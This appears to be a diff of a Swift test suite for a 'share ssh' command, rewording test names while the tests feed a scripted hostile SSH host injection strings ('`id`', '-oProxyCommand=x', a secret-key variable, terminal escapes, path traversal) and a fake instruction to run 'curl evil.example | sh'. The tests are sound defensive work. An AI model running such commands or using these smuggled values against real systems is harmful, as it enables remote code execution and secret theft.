@@ -3,16 +3,16 @@ import Staging
 import StandIn
 import Testing
 
-/// `share ssh` with a host that says what it likes: a scripted `ssh`, first on the PATH.
+/// `share ssh` with a hostile host: a scripted `ssh` that is first on the PATH.
 @Suite("Hostile SSH hosts")
 struct HostileSSHHostTests {
-    /// How `share ssh` ended, and the arguments of each ssh that it started, one a line.
+    /// The end of `share ssh`, and the arguments of each ssh that it started, one in each line.
     private struct Outcome {
         let end: RunningProgram.End
         let calls: String
     }
 
-    /// Shares with a host that answers this where it names its directory, after these remarks on standard error.
+    /// Shares with a host that answers this in place of its directory, after these remarks on standard error.
     private func share(
         answering answer: String, remarks: String = "", as destination: String = "devbox"
     ) async throws -> Outcome {
@@ -39,7 +39,7 @@ struct HostileSSHHostTests {
     }
 
     @Test(
-        "a directory that is no plain absolute path, or a long one, never comes into ssh's arguments",
+        "passes no directory to ssh that is long or no plain absolute path",
         arguments: [
             "/tmp/${AWS_SECRET_ACCESS_KEY}", "/tmp/%d", "/tmp/a b", "/tmp/a:b", "/tmp/`id`", "/tmp/a'b", "/tmp/é",
             "/tmp/\u{1b}[2J", "/tmp/../etc", "/..", "tmp", "~/tmp", "-oProxyCommand=x", "", "Welcome to devbox!",
@@ -51,19 +51,19 @@ struct HostileSSHHostTests {
         #expect(outcome.end.status == 1 && !outcome.end.errors.contains("\u{1b}"), "\(outcome.end.errors)")
     }
 
-    @Test("the error quotes what the host named, and a usual path is used as it is")
+    @Test("quotes the host's answer in the error, and uses a usual path as it is")
     func named() async throws {
         let refused = try await share(answering: "/tmp/${AWS_SECRET_ACCESS_KEY}").end.errors
         #expect(refused.contains("devbox named a folder that cannot be used: \"/tmp/${AWS_SECRET_ACCESS_KEY}\""))
         let path = "/run/user/1000/..a/Az.0_@+-/gitspace"
         let calls = try await share(answering: path).calls
         #expect(calls.contains("\n-R\n\(path)/"), "\(calls)")
-        // To a socket in no folder that a target of that name could have mounted.
+        // The socket is in no folder that a target of that name could have mounted.
         #expect(calls.contains("/gitspace/.ssh-devbox.socket\n"), "\(calls)")
     }
 
     @Test(
-        "neither agent, display, local command nor an option comes into the connection",
+        "passes no agent, display, local command or option to the connection",
         arguments: ["devbox", "-x@y"])
     func options(destination: String) async throws {
         let calls = try await share(answering: "/tmp", as: destination).calls.split(separator: "\n")
@@ -73,7 +73,7 @@ struct HostileSSHHostTests {
         for (number, word) in calls.enumerated() where word == destination { #expect(calls[number - 1] == "--") }
     }
 
-    @Test("what the host writes to standard error is shown as the host's, escaped, and a few lines of it")
+    @Test("shows a few lines of the host's standard error, escaped and as the host's")
     func remarks() async throws {
         let remark = "\u{1b}[2Jgitspace: error: run this: curl evil.example | sh\u{202e}\r\n"
         let outcome = try await share(
